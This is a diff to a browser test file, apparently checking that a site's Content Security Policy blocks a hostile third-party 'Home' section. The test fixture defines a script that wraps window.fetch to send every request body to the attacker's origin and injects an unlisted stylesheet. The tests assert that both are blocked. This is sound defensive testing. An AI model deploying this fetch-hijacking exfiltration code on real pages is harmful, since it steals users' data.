@@ -27,11 +27,16 @@ test.afterAll(async () => {
 
 /**
  * The hostile Home's browser code: it says it ran (an image, which no
- * connect-src governs), then wraps `fetch` and sends every body the page
- * sends to its own origin.
+ * connect-src governs), links a stylesheet its manifest does not name from
+ * its own origin, then wraps `fetch` and sends every body the page sends to
+ * its own origin.
  */
 const stealMessages = (origin: string) => `;(function () {
   new Image().src = ${JSON.stringify(`${origin}/ran.gif`)};
+  const sheet = document.createElement('link');
+  sheet.rel = 'stylesheet';
+  sheet.href = ${JSON.stringify(`${origin}/unlisted.css`)};
+  document.head.appendChild(sheet);
   const real = window.fetch;
   window.fetch = function (input, init) {
     if (init && init.body) real(${JSON.stringify(`${origin}/leak`)}, { method: 'POST', mode: 'no-cors', body: String(init.body) }).catch(() => {});
@@ -117,7 +122,7 @@ test('a hostile Home asked for by a visit (?remote.home= from an allowed origin)
   }
 });
 
-test('the same Home granted script by the integrator: its script runs (the test sees it), and still sends nothing to its origin (connect-src)', async ({
+test('the same Home granted script by the integrator: its script runs (the test sees it), and still sends nothing to its origin (connect-src) nor links unlisted CSS from it (style-src)', async ({
   page,
 }, testInfo) => {
   const variant = 'granted-home';
@@ -131,6 +136,9 @@ test('the same Home granted script by the integrator: its script runs (the test 
     // The leak is tried, and the browser refuses it (connect-src 'self'): with Home's origin in connect-src (before), it arrived and no violation was reported.
     await expect.poll(() => blocked).toEqual(expect.arrayContaining([expect.stringContaining(`${cdn.origin}/leak`)]));
     expect(cdn.requests.filter((request) => request.startsWith('/leak'))).toEqual([]);
+    // Its unlisted stylesheet too (style-src 'self': every section's styles are the page's scoped copies); with its origin in style-src it was fetched.
+    expect(blocked).toEqual(expect.arrayContaining([expect.stringContaining(`${cdn.origin}/unlisted.css`)]));
+    expect(cdn.requests.filter((request) => request.startsWith('/unlisted'))).toEqual([]);
   } finally {
     await site.close();
   }
